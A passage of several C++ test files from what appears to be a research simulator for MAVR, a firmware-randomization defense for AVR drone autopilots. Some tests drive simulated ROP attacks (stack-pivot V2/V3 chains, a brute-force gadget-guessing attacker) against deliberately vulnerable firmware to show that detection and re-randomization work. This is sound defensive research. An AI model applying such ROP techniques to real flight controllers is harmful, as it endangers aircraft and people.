    cfg.watchdog_timeout_cycles = 400'000;  // 25 ms at 16 MHz
    return cfg;
  }

  void deploy() {
    master_.host_upload_hex(defense::preprocess_to_hex(fw().image));
    master_.boot();
    board_.run_cycles(400'000);
    ASSERT_EQ(board_.cpu().state(), avr::CpuState::Running);
  }

  /// Runs the board while servicing the master watchdog, counting
  /// detections.
  int run_with_watchdog(std::uint64_t cycles) {
    int detections = 0;
    const std::uint64_t slice = 100'000;
    for (std::uint64_t done = 0; done < cycles; done += slice) {
      board_.run_cycles(slice);
      if (master_.service()) ++detections;
    }
    return detections;
  }

  /// The §V-D brute-force attacker: replays stale-layout payloads built on
  /// different gadget guesses until the master detects a failed attack.
  /// Returns the number of detections (0 if the attacker somehow never
  /// wedges the board).
  int brute_force_until_detected(sim::GroundStation& gcs, int max_attempts) {
    attack::GadgetFinder finder(fw().image);
    std::vector<attack::StkMoveGadget> usable;
    for (const attack::StkMoveGadget& g : finder.stk_moves()) {
      if (g.pops.size() <= 3) usable.push_back(g);
    }
    const Write3 write{plan().gyro_cal_addr, {0x34, 0x12, 0x00}};
    int detections = 0;
    for (int attempt = 0; attempt < max_attempts; ++attempt) {
      attack::AttackPlan guess = plan();
      guess.stk = usable[(attempt * 37) % usable.size()];
      gcs.send_raw_param_set(guess.builder().v2_payload({write}));
      detections += run_with_watchdog(6'000'000);
      if (detections > 0) break;
    }
    return detections;
  }

  ExternalFlash flash_;
  sim::Board board_;
  MasterProcessor master_;
};

TEST_F(MavrSystemTest, RandomizedFirmwareFliesNormally) {
  deploy();
  sim::GroundStation gcs(board_);
  board_.set_gyro(0, 55);
  EXPECT_EQ(run_with_watchdog(3'000'000), 0);  // no false positives
  gcs.poll();
  ASSERT_TRUE(gcs.last_imu().has_value());
  EXPECT_EQ(gcs.last_imu()->xgyro, 55);
  EXPECT_EQ(gcs.garbage_bytes(), 0u);
}

TEST_F(MavrSystemTest, ReadoutProtectionBlocksBinaryExtraction) {
  deploy();
  EXPECT_TRUE(board_.readout_protected());
  EXPECT_THROW(board_.read_flash(), support::PreconditionError);
}

TEST_F(MavrSystemTest, StealthyAttackFailsAndIsDetected) {
  deploy();
  sim::GroundStation gcs(board_);

  // Payloads crafted against the stock layout (the kind that succeeds in
  // tests/attack/stealthy_test.cpp) jump into the wrong places here: the
  // board ends up executing garbage, and the brute-forcing attacker is
  // caught by the feed-line watchdog.
  const int detections = brute_force_until_detected(gcs, 12);
  EXPECT_GE(detections, 1);            // master saw the quiet feed line
  EXPECT_GE(master_.randomizations(), 2u);  // and reflashed immediately

  // The attacker's write must NOT have the intended effect after the
  // reflash (RAM was reinitialized by the new boot; the calibration holds
  // its legitimate value).
  const std::uint8_t cal0 =
      board_.cpu().data().raw(plan().gyro_cal_addr);
  const std::uint8_t cal1 =
      board_.cpu().data().raw(plan().gyro_cal_addr + 1);
  EXPECT_FALSE(cal0 == 0x34 && cal1 == 0x12);

  // And the board is flying again.
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
  EXPECT_EQ(run_with_watchdog(1'500'000), 0);
}

TEST_F(MavrSystemTest, ReRandomizationChangesThePermutation) {
  deploy();
  const std::vector<std::size_t> before = master_.current_permutation();

  sim::GroundStation gcs(board_);
  ASSERT_GE(brute_force_until_detected(gcs, 12), 1);
  EXPECT_NE(master_.current_permutation(), before);

  // The attacker starts over against the fresh permutation and is caught
  // again — a new exploit is needed per attempt (paper §V-C).
  const std::vector<std::size_t> second = master_.current_permutation();
  ASSERT_GE(brute_force_until_detected(gcs, 12), 1);
  EXPECT_NE(master_.current_permutation(), second);
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
}

TEST_F(MavrSystemTest, BootScheduleLimitsFlashWear) {
  MasterConfig cfg = config();
  cfg.randomize_every_n_boots = 4;
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(defense::preprocess_to_hex(fw().image));

  for (int i = 0; i < 8; ++i) master.boot();
  EXPECT_EQ(master.boots(), 8u);
  EXPECT_EQ(master.randomizations(), 2u);  // boots 1 and 5
  // Each programming pass costs 2 endurance cycles (erase + pages counted
  // as one programming session each in our model).
  EXPECT_GT(master.endurance_remaining(), 0);
  EXPECT_LT(master.endurance_remaining(),
            static_cast<std::int64_t>(
                board.cpu().spec().flash_endurance));
}

TEST_F(MavrSystemTest, StartupReportMatchesSerialBottleneck) {
  deploy();
  ASSERT_TRUE(master_.last_startup().has_value());
  const defense::StartupReport& report = *master_.last_startup();
  EXPECT_EQ(report.image_bytes, fw().image.size_bytes());
  // 115200 baud, 10 bits per byte.
  const double expect_ms = report.image_bytes * 10.0 * 1000.0 / 115200.0;
  EXPECT_NEAR(report.transfer_ms, expect_ms, 0.01);
  EXPECT_EQ(report.total_ms, std::max(report.transfer_ms, report.flash_ms));
}

TEST_F(MavrSystemTest, SymbolCountMatchesImage) {
  master_.host_upload_hex(defense::preprocess_to_hex(fw().image));
  // Movable blocks = all functions (the vector table is an object).
  EXPECT_EQ(master_.symbol_count(), fw().image.function_count());
}

TEST_F(MavrSystemTest, ExternalFlashExhaustionIsDetected) {
  // The paper's noted failure mode: symbol table + near-maximal binary
  // overflow a chip sized to the application flash (§VI-B2).
  ExternalFlash tiny(fw().image.size_bytes() / 2);
  sim::Board board;
  MasterProcessor master(tiny, board, config());
  EXPECT_THROW(master.host_upload_hex(defense::preprocess_to_hex(fw().image)),
               support::PreconditionError);
}

TEST_F(MavrSystemTest, BenignTrafficStillWorksAfterRandomization) {
  deploy();
  sim::GroundStation gcs(board_);
  const toolchain::DataSymbol* hb = fw().image.find_data("g_hb_count");
  ASSERT_NE(hb, nullptr);
  gcs.send_heartbeat();
  board_.run_cycles(1'500'000);
  EXPECT_EQ(board_.cpu().data().raw(hb->ram_addr), 1);

  mavlink::ParamSet set;
  set.param_value = 1.0f;
  gcs.send_param_set(set);
  board_.run_cycles(1'500'000);
  EXPECT_EQ(board_.cpu().state(), avr::CpuState::Running);
  const toolchain::DataSymbol* params = fw().image.find_data("g_params");
  EXPECT_EQ(board_.cpu().data().raw(params->ram_addr + 3), 0x3F);
}

}  // namespace
}  // namespace mavr
