// MasterProcessor unit behaviour: watchdog timing, boot scheduling, flash
// endurance, bootloader interplay and error paths.
#include <gtest/gtest.h>

#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "toolchain/assembler.hpp"
#include "toolchain/linker.hpp"

namespace mavr {
namespace {

using defense::ExternalFlash;
using defense::MasterConfig;
using defense::MasterProcessor;

const std::string& good_hex() {
  static const std::string hex = defense::preprocess_to_hex(
      firmware::generate(firmware::testapp(false),
                         toolchain::ToolchainOptions::mavr())
          .image);
  return hex;
}

/// A pathological application that boots but never feeds the watchdog.
const std::string& silent_hex() {
  static const std::string hex = [] {
    toolchain::FunctionBuilder main_fn("main");
    toolchain::Label spin = main_fn.make_label();
    main_fn.bind(spin);
    main_fn.rjmp(spin);
    toolchain::LinkInput in;
    in.functions.push_back(main_fn.take());
    return defense::preprocess_to_hex(toolchain::link(std::move(in)));
  }();
  return hex;
}

TEST(Master, BootWithoutUploadRefused) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  EXPECT_THROW(master.boot(), support::PreconditionError);
}

TEST(Master, CorruptHexRefused) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  EXPECT_THROW(master.host_upload_hex("not hex at all"),
               support::DataError);
}

TEST(Master, NoFalsePositiveOnHealthyBoard) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.watchdog_timeout_cycles = 200'000;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(good_hex());
  master.boot();
  for (int i = 0; i < 100; ++i) {
    board.run_cycles(50'000);
    EXPECT_FALSE(master.service());
  }
  EXPECT_EQ(master.attacks_detected(), 0u);
  EXPECT_EQ(master.randomizations(), 1u);
}

TEST(Master, DetectsSilentApplicationWithinTimeout) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.watchdog_timeout_cycles = 100'000;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(silent_hex());
  master.boot();

  // Before the timeout elapses: no detection.
  board.run_cycles(50'000);
  EXPECT_FALSE(master.service());
  // After: detection fires exactly once per quiet period (the reflash
  // resets the clock).
  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.attacks_detected(), 1u);
  EXPECT_EQ(master.randomizations(), 2u);
  // Immediately after the reflash the grace period holds.
  EXPECT_FALSE(master.service());
}

TEST(Master, DetectReflashDetectAgain) {
  // Regression for the watchdog bookkeeping across a reflash: the reflash
  // must re-arm the quiet check (fresh grace period), and a still-silent
  // application must be caught a second time — a stale feed high-water
  // mark would disarm the watchdog after the first detection.
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.watchdog_timeout_cycles = 100'000;
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(silent_hex());
  master.boot();

  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_FALSE(master.service());  // grace period right after the reflash
  board.run_cycles(200'000);
  EXPECT_TRUE(master.service());
  EXPECT_EQ(master.attacks_detected(), 2u);
  EXPECT_EQ(master.randomizations(), 3u);  // boot + two attack reflashes
}

TEST(Master, DetectsFaultedCoreImmediately) {
  ExternalFlash flash;
  sim::Board board;
  MasterConfig cfg;
  cfg.watchdog_timeout_cycles = 10'000'000;  // timeout alone would not fire
  MasterProcessor master(flash, board, cfg);
  master.host_upload_hex(good_hex());
  master.boot();
  board.run_cycles(200'000);
  // Plant a reserved opcode in a spare flash page and jump to it —
  // the way garbage execution typically ends.
  support::Bytes page(board.cpu().spec().flash_page_bytes, 0x00);
  for (std::size_t i = 0; i < page.size(); i += 2) page[i] = 0x01;
  board.cpu().flash().program_page(0x3F000, page);  // 0x0001: reserved
  board.cpu().set_pc(0x3F000 / 2);
  board.run_cycles(10'000);
  ASSERT_TRUE(board.crashed());
  EXPECT_TRUE(master.service());
  EXPECT_GE(master.attacks_detected(), 1u);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);  // recovered
}

TEST(Master, ServiceIsNoopInBootloader) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());
  master.boot();
  board.bootloader_enter();
  EXPECT_FALSE(master.service());
  board.bootloader_run_application();
}

TEST(Master, BootScheduleHonored) {
  for (std::uint32_t n : {1u, 2u, 7u}) {
    ExternalFlash flash;
    sim::Board board;
    MasterConfig cfg;
    cfg.randomize_every_n_boots = n;
    MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(good_hex());
    for (int b = 0; b < 14; ++b) master.boot();
    EXPECT_EQ(master.randomizations(), (14 + n - 1) / n) << "n=" << n;
  }
}

TEST(Master, EnduranceBudgetDecreases) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  master.host_upload_hex(good_hex());
  const std::int64_t fresh = master.endurance_remaining();
  EXPECT_EQ(fresh, 10'000);
  master.boot();
  master.boot();
  master.boot();
  EXPECT_EQ(master.endurance_remaining(), fresh - 3);
}

TEST(Master, PermutationDiffersAcrossSeeds) {
  auto run = [](std::uint64_t seed) {
    ExternalFlash flash;
    sim::Board board;
    MasterConfig cfg;
    cfg.seed = seed;
    MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(good_hex());
    master.boot();
    return master.current_permutation();
  };
  EXPECT_NE(run(1), run(2));
  EXPECT_EQ(run(3), run(3));  // deterministic per seed
}

TEST(Master, RandomizedBoardsBehaveIdenticallyAcrossSeeds) {
  // Stronger than layout inequality: any two permutations must produce
  // the same observable flight behaviour.
  auto trace = [](std::uint64_t seed) {
    ExternalFlash flash;
    sim::Board board;
    MasterConfig cfg;
    cfg.seed = seed;
    MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(good_hex());
    master.boot();
    board.set_gyro(0, 321);
    board.run_cycles(2'000'000);
    return std::make_tuple(board.servo(0).history(),
                           board.feed_line().write_count(),
                           board.telemetry().host_take_tx());
  };
  EXPECT_EQ(trace(11), trace(222));
}

TEST(Master, SymbolCountRequiresUpload) {
  ExternalFlash flash;
  sim::Board board;
  MasterProcessor master(flash, board, MasterConfig{});
  EXPECT_EQ(master.symbol_count(), 0u);
  master.host_upload_hex(good_hex());
  EXPECT_GT(master.symbol_count(), 50u);
}

}  // namespace
}  // namespace mavr
