// Cycle-exactness oracle for the interpreter performance architecture
// (DESIGN.md §11). The dense-table I/O dispatch, event-driven peripheral
// clocking, branchless flag composition and register-resident hot counters
// are pure optimizations: every value below was captured from the
// pre-overhaul per-instruction-tick interpreter and must never move. A
// drift in total cycles, architectural state or timer fires means an
// optimization changed semantics, not just speed.
#include <gtest/gtest.h>

#include "attack/attacks.hpp"
#include "avr/cpu.hpp"
#include "avr/gpio.hpp"
#include "avr/io.hpp"
#include "avr/timer.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::Cpu;
using avr::Op;

const firmware::Firmware& testapp_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  return fw;
}

/// Everything the pre-overhaul interpreter pinned down for a run.
struct OracleState {
  std::uint64_t cycles;
  std::uint64_t retired;
  std::uint64_t irqs;
  std::uint32_t pc;
  std::uint16_t sp;
  std::uint8_t sreg;
  std::uint64_t fires;
  std::uint64_t feeds;
  bool operator==(const OracleState&) const = default;
};

OracleState capture(sim::Board& board) {
  const Cpu& cpu = board.cpu();
  return {cpu.cycles(),
          cpu.instructions_retired(),
          cpu.interrupts_taken(),
          cpu.pc(),
          cpu.sp(),
          cpu.sreg(),
          board.tick_timer().fires(),
          board.feed_line().write_count()};
}

TEST(CycleOracle, TestappBootPinsPreOverhaulState) {
  sim::Board board;
  board.flash_image(testapp_fw().image.bytes);
  board.run_cycles(300'000);
  ASSERT_EQ(board.cpu().state(), avr::CpuState::Running);
  const OracleState expected{.cycles = 300'009,
                             .retired = 162'582,
                             .irqs = 30,
                             .pc = 0x00022,
                             .sp = 0x21F9,
                             .sreg = 0x02,
                             .fires = 30,
                             .feeds = 847};
  EXPECT_EQ(capture(board), expected);
}

OracleState run_v2_attack(avr::Tracer* tracer, std::uint8_t out_cal[2]) {
  const attack::AttackPlan plan = attack::analyze(testapp_fw().image);
  sim::Board board;
  if (tracer != nullptr) board.cpu().set_tracer(tracer);
  board.flash_image(testapp_fw().image.bytes);
  board.run_cycles(300'000);
  sim::GroundStation gcs(board);
  const attack::Write3 write{plan.gyro_cal_addr, {0x34, 0x12, 0x00}};
  gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  board.run_cycles(4'000'000);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
  out_cal[0] = board.cpu().data().raw(plan.gyro_cal_addr);
  out_cal[1] = board.cpu().data().raw(plan.gyro_cal_addr + 1);
  return capture(board);
}

TEST(CycleOracle, V2AttackEndToEndPinsPreOverhaulState) {
  // The V2 stealthy chain pivots the stack, runs gadgets interleaved with
  // timer ISRs and returns to the main loop — the densest mix of stack
  // traffic, I/O dispatch and interrupt delivery the repo has. Pinning its
  // cycle count catches any semantic drift the boot oracle is too calm for.
  std::uint8_t cal[2] = {0, 0};
  const OracleState got = run_v2_attack(nullptr, cal);
  const OracleState expected{.cycles = 4'300'010,
                             .retired = 2'328'034,
                             .irqs = 430,
                             .pc = 0x0026D,
                             .sp = 0x21F6,
                             .sreg = 0x00,
                             .fires = 430,
                             .feeds = 12'325};
  EXPECT_EQ(got, expected);
  EXPECT_EQ(cal[0], 0x34);  // the chain's write landed
  EXPECT_EQ(cal[1], 0x12);
}

const firmware::Firmware& arduplane_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::arduplane(/*vulnerable=*/true),
      toolchain::ToolchainOptions::mavr());
  return fw;
}

OracleState run_arduplane_boot(bool exec_tier) {
  sim::Board board;
  board.cpu().set_exec_tier(exec_tier);
  board.flash_image(arduplane_fw().image.bytes);
  board.run_cycles(400'000);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
  return capture(board);
}

OracleState run_v3_attack(bool exec_tier, std::uint8_t out_cal[2]) {
  // V3 stages its gadget arguments into scratch RAM with one payload and
  // triggers with a second — two pivots, more ISR interleavings, and the
  // longest ROP execution the attack library generates.
  const attack::AttackPlan plan = attack::analyze(arduplane_fw().image);
  sim::Board board;
  board.cpu().set_exec_tier(exec_tier);
  board.flash_image(arduplane_fw().image.bytes);
  board.run_cycles(400'000);
  sim::GroundStation gcs(board);
  const attack::Write3 write{plan.gyro_cal_addr, {0x34, 0x12, 0x00}};
  constexpr std::uint16_t kStagingAddr = 0x1B00;
  for (const support::Bytes& p :
       plan.builder().v3_payloads(kStagingAddr, {write})) {
    gcs.send_raw_param_set(p);
  }
  board.run_cycles(6'000'000);
  EXPECT_EQ(board.cpu().state(), avr::CpuState::Running);
  out_cal[0] = board.cpu().data().raw(plan.gyro_cal_addr);
  out_cal[1] = board.cpu().data().raw(plan.gyro_cal_addr + 1);
  return capture(board);
}

TEST(CycleOracle, ArduplaneBootPinsStateTierOnAndOff) {
  // The flight firmware exercises translation shapes the testapp does not
  // (deeper call graphs, denser 16-bit arithmetic); both execution paths
  // must land on the interpreter-captured constants.
  const OracleState expected{.cycles = 400'005,
                             .retired = 238'566,
                             .irqs = 40,
                             .pc = 0x00022,
                             .sp = 0x21F0,
                             .sreg = 0x21,
                             .fires = 40,
                             .feeds = 968};
  EXPECT_EQ(run_arduplane_boot(/*exec_tier=*/false), expected);
  EXPECT_EQ(run_arduplane_boot(/*exec_tier=*/true), expected);
}

TEST(CycleOracle, V3AttackEndToEndPinsStateTierOnAndOff) {
  const OracleState expected{.cycles = 6'400'005,
                             .retired = 3'813'956,
                             .irqs = 640,
                             .pc = 0x00022,
                             .sp = 0x21DD,
                             .sreg = 0x1B,
                             .fires = 640,
                             .feeds = 15'326};
  for (const bool exec_tier : {false, true}) {
    std::uint8_t cal[2] = {0, 0};
    EXPECT_EQ(run_v3_attack(exec_tier, cal), expected);
    EXPECT_EQ(cal[0], 0x34);  // the staged chain's write landed
    EXPECT_EQ(cal[1], 0x12);
  }
}

TEST(CycleOracle, TracedRunIsBitIdenticalToUntraced) {
  // The traced instantiation syncs the hot counters around every hook;
  // both instantiations must execute the identical cycle-exact schedule.
  avr::Tracer null_tracer;
  std::uint8_t cal_untraced[2], cal_traced[2];
  const OracleState untraced = run_v2_attack(nullptr, cal_untraced);
  const OracleState traced = run_v2_attack(&null_tracer, cal_traced);
  EXPECT_EQ(untraced, traced);
  EXPECT_EQ(cal_untraced[0], cal_traced[0]);
  EXPECT_EQ(cal_untraced[1], cal_traced[1]);
}

TEST(TimerCatchUp, MultiPeriodGapCollapsesToOnePendingFlag) {
  // The closed-form catch-up must count every elapsed period in fires()
  // but collapse them into a single pending flag, exactly like the old
  // one-period-per-tick loop did when the CPU slept across many periods.
  avr::IoBus bus;
  avr::Timer timer(bus, 1000);
  EXPECT_EQ(bus.next_deadline(), 1000u);

  bus.tick(10'003);  // 10 periods and a bit, in one jump
  EXPECT_EQ(timer.fires(), 10u);
  EXPECT_TRUE(timer.pending());
  EXPECT_TRUE(timer.take_irq());
  EXPECT_FALSE(timer.take_irq());  // one flag, not ten
  EXPECT_EQ(timer.next_event_cycles(), 11'000u);
  EXPECT_EQ(bus.next_deadline(), 11'000u);

  bus.tick(10'999);  // just short of the next match: no change
  EXPECT_EQ(timer.fires(), 10u);
  EXPECT_FALSE(timer.pending());

  bus.tick(11'000);  // exact boundary fires
  EXPECT_EQ(timer.fires(), 11u);
  EXPECT_TRUE(timer.pending());
}

TEST(IoBusRegression, DuplicateHandlersRejected) {
  avr::IoBus bus;
  bus.on_read(0xC0, [](void*) { return std::uint8_t{0}; }, nullptr);
  bus.on_write(0xC0, [](void*, std::uint8_t) {}, nullptr);
  EXPECT_THROW(bus.on_read(0xC0, [](void*) { return std::uint8_t{1}; },
                           nullptr),
               support::PreconditionError);
  EXPECT_THROW(bus.on_write(0xC0, [](void*, std::uint8_t) {}, nullptr),
               support::PreconditionError);
  // A read handler does not block a second *write* handler elsewhere.
  bus.on_read(0xC1, [](void*) { return std::uint8_t{0}; }, nullptr);
  bus.on_write(0xC1, [](void*, std::uint8_t) {}, nullptr);
}

TEST(IoBusRegression, OutOfRegionHandlersRejected) {
  // The dense dispatch tables cover [0, kExtIoEnd); a handler above that
  // would be registered but unreachable through load/store, so it must be
  // rejected loudly instead.
  avr::IoBus bus;
  EXPECT_THROW(bus.on_read(avr::kExtIoEnd,
                           [](void*) { return std::uint8_t{0}; }, nullptr),
               support::PreconditionError);
  EXPECT_THROW(bus.on_write(0xFFFF, [](void*, std::uint8_t) {}, nullptr),
               support::PreconditionError);
}

TEST(IoBusRegression, UnhandledIoAddressesBehaveAsRam) {
  Cpu cpu(avr::atmega2560());
  // 0x1F0 is inside the extended I/O region but no device claims it.
  EXPECT_FALSE(cpu.io().handles_read(0x1F0));
  EXPECT_FALSE(cpu.io().handles_write(0x1F0));
  cpu.data().store(0x1F0, 0xA5);
  EXPECT_EQ(cpu.data().load(0x1F0), 0xA5);
  EXPECT_EQ(cpu.data().raw(0x1F0), 0xA5);
}

TEST(IoBusRegression, DeviceDispatchRoutesAroundRam) {
  avr::IoBus bus;
  std::uint8_t last_written = 0;
  bus.on_read(0x88, [](void*) { return std::uint8_t{0x5C}; }, nullptr);
  bus.on_write(
      0x88, [](void* p, std::uint8_t v) { *static_cast<std::uint8_t*>(p) = v; },
      &last_written);
  avr::DataMemory mem(avr::atmega2560(), bus);
  EXPECT_EQ(mem.load(0x88), 0x5C);   // handler, not backing RAM
  mem.store(0x88, 0x77);
  EXPECT_EQ(last_written, 0x77);
  EXPECT_EQ(mem.raw(0x88), 0);       // backing RAM untouched by the device
}

TEST(IoBusRegression, GpioPortSemanticsUnchanged) {
  Cpu cpu(avr::atmega2560());
  avr::OutputPort port(cpu.io(), 0x10A, /*record_history=*/true);
  avr::InputPort sensor(cpu.io(), 0x10B);
  sensor.set(0x42);
  EXPECT_EQ(cpu.data().load(0x10B), 0x42);
  cpu.data().store(0x10A, 0x81);
  cpu.data().store(0x10A, 0x18);
  EXPECT_EQ(port.value(), 0x18);
  EXPECT_EQ(port.write_count(), 2u);
  ASSERT_EQ(port.history().size(), 2u);
  EXPECT_EQ(port.history()[0].value, 0x81);
  EXPECT_EQ(port.history()[1].value, 0x18);
}

TEST(StackFastPath, CallRetInsideIoRegionUsesByteExactSlowPath) {
  // push_pc/pop_pc batch their bytes only when the whole transfer lies in
  // plain RAM. With SP parked inside the I/O region the byte-at-a-time
  // path must engage and behave exactly as before: bytes land at SP,
  // SP-1, SP-2 (big-endian toward ascending addresses) and RET undoes it.
  Cpu cpu(avr::atmega2560());
  std::vector<std::uint16_t> words;
  words.push_back(toolchain::enc_rel_jump(Op::Rcall, 1));  // word 0 -> word 2
  words.push_back(toolchain::enc_no_operand(Op::Break));   // word 1
  words.push_back(toolchain::enc_no_operand(Op::Ret));     // word 2
  support::Bytes image;
  for (std::uint16_t w : words) {
    image.push_back(static_cast<std::uint8_t>(w & 0xFF));
    image.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  cpu.flash().program(image);
  cpu.reset();
  cpu.set_sp(0x150);  // inside [0, kExtIoEnd): no batching allowed

  cpu.step();  // RCALL pushes the 3-byte return address (word 1)
  EXPECT_EQ(cpu.pc(), 2u);
  EXPECT_EQ(cpu.sp(), 0x150 - 3);
  EXPECT_EQ(cpu.data().raw(0x150), 0x01);  // LSB pushed first
  EXPECT_EQ(cpu.data().raw(0x14F), 0x00);
  EXPECT_EQ(cpu.data().raw(0x14E), 0x00);

  cpu.step();  // RET pops it back
  EXPECT_EQ(cpu.pc(), 1u);
  EXPECT_EQ(cpu.sp(), 0x150);
  cpu.step();  // BREAK
  EXPECT_EQ(cpu.state(), avr::CpuState::Stopped);
}

}  // namespace
}  // namespace mavr
