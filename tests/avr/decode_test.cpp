// Encoder/decoder round-trip property tests over the implemented AVR ISA.
// The encoders live in the toolchain (assembler/patcher side) and the
// decoder in the simulator; agreement between them is what makes the
// linker → simulator → patcher pipeline coherent.
#include <gtest/gtest.h>

#include "avr/decode.hpp"
#include "toolchain/encode.hpp"

namespace mavr {
namespace {

using avr::decode;
using avr::Instr;
using avr::Op;
using namespace mavr::toolchain;

class TwoRegRoundTrip : public ::testing::TestWithParam<Op> {};

TEST_P(TwoRegRoundTrip, AllRegisterPairs) {
  for (unsigned rd = 0; rd < 32; ++rd) {
    for (unsigned rr = 0; rr < 32; ++rr) {
      const std::uint16_t w = enc_two_reg(GetParam(), rd, rr);
      const Instr in = decode(w, 0);
      ASSERT_EQ(in.op, GetParam()) << "rd=" << rd << " rr=" << rr;
      ASSERT_EQ(in.rd, rd);
      ASSERT_EQ(in.rr, rr);
      ASSERT_EQ(in.size_words, 1);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Ops, TwoRegRoundTrip,
                         ::testing::Values(Op::Add, Op::Adc, Op::Sub, Op::Sbc,
                                           Op::And, Op::Or, Op::Eor, Op::Mov,
                                           Op::Cp, Op::Cpc, Op::Cpse,
                                           Op::Mul));

class ImmRoundTrip : public ::testing::TestWithParam<Op> {};

TEST_P(ImmRoundTrip, AllRegistersAndImmediates) {
  for (unsigned rd = 16; rd < 32; ++rd) {
    for (unsigned k = 0; k < 256; k += 7) {
      const std::uint16_t w =
          enc_imm(GetParam(), rd, static_cast<std::uint8_t>(k));
      const Instr in = decode(w, 0);
      ASSERT_EQ(in.op, GetParam());
      ASSERT_EQ(in.rd, rd);
      ASSERT_EQ(in.k, k);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Ops, ImmRoundTrip,
                         ::testing::Values(Op::Ldi, Op::Cpi, Op::Subi,
                                           Op::Sbci, Op::Andi, Op::Ori));

class OneRegRoundTrip : public ::testing::TestWithParam<Op> {};

TEST_P(OneRegRoundTrip, AllRegisters) {
  for (unsigned rd = 0; rd < 32; ++rd) {
    const Instr in = decode(enc_one_reg(GetParam(), rd), 0);
    ASSERT_EQ(in.op, GetParam());
    ASSERT_EQ(in.rd, rd);
  }
}

INSTANTIATE_TEST_SUITE_P(Ops, OneRegRoundTrip,
                         ::testing::Values(Op::Com, Op::Neg, Op::Swap,
                                           Op::Inc, Op::Dec, Op::Asr,
                                           Op::Lsr, Op::Ror));

TEST(DecodeRoundTrip, Movw) {
  for (unsigned rd = 0; rd < 32; rd += 2) {
    for (unsigned rr = 0; rr < 32; rr += 2) {
      const Instr in = decode(enc_movw(rd, rr), 0);
      ASSERT_EQ(in.op, Op::Movw);
      ASSERT_EQ(in.rd, rd);
      ASSERT_EQ(in.rr, rr);
    }
  }
}

TEST(DecodeRoundTrip, AdiwSbiw) {
  for (std::uint8_t rd : {24, 26, 28, 30}) {
    for (unsigned k = 0; k < 64; ++k) {
      Instr in = decode(enc_adiw(Op::Adiw, rd, k), 0);
      ASSERT_EQ(in.op, Op::Adiw);
      ASSERT_EQ(in.rd, rd);
      ASSERT_EQ(in.k, k);
      in = decode(enc_adiw(Op::Sbiw, rd, k), 0);
      ASSERT_EQ(in.op, Op::Sbiw);
      ASSERT_EQ(in.k, k);
    }
  }
}

TEST(DecodeRoundTrip, InOut) {
  for (unsigned reg = 0; reg < 32; ++reg) {
    for (unsigned addr = 0; addr < 64; ++addr) {
      Instr in = decode(enc_in(reg, addr), 0);
      ASSERT_EQ(in.op, Op::In);
      ASSERT_EQ(in.rd, reg);
      ASSERT_EQ(in.k, addr);
      in = decode(enc_out(addr, reg), 0);
      ASSERT_EQ(in.op, Op::Out);
      ASSERT_EQ(in.rd, reg);
      ASSERT_EQ(in.k, addr);
    }
  }
}

TEST(DecodeRoundTrip, PaperGadgetEncodings) {
  // The exact instructions of Fig. 4: out 0x3e,r29 / out 0x3f,r0 /
  // out 0x3d,r28 and the Fig. 5 stores std Y+1..3, r5..7.
  EXPECT_EQ(decode(enc_out(0x3E, 29), 0).op, Op::Out);
  const Instr std1 = decode(enc_std(true, 1, 5), 0);
  EXPECT_EQ(std1.op, Op::StdY);
  EXPECT_EQ(std1.k, 1);
  EXPECT_EQ(std1.rd, 5);
}

TEST(DecodeRoundTrip, PushPop) {
  for (unsigned reg = 0; reg < 32; ++reg) {
    ASSERT_EQ(decode(enc_push(reg), 0).op, Op::Push);
    ASSERT_EQ(decode(enc_push(reg), 0).rd, reg);
    ASSERT_EQ(decode(enc_pop(reg), 0).op, Op::Pop);
    ASSERT_EQ(decode(enc_pop(reg), 0).rd, reg);
  }
}

TEST(DecodeRoundTrip, LdsSts) {
  for (std::uint16_t addr : {0x0000, 0x0200, 0x21FF, 0xC600, 0xFFFF}) {
    auto [w1, w2] = enc_lds(9, addr);
    Instr in = decode(w1, w2);
    ASSERT_EQ(in.op, Op::Lds);
    ASSERT_EQ(in.rd, 9);
    ASSERT_EQ(in.k, addr);
    ASSERT_EQ(in.size_words, 2);
    auto [s1, s2] = enc_sts(addr, 23);
    in = decode(s1, s2);
    ASSERT_EQ(in.op, Op::Sts);
    ASSERT_EQ(in.rd, 23);
    ASSERT_EQ(in.k, addr);
  }
}

TEST(DecodeRoundTrip, DisplacedLoadStore) {
  for (unsigned reg = 0; reg < 32; ++reg) {
    for (unsigned q = 0; q < 64; q += 3) {
      for (bool y : {true, false}) {
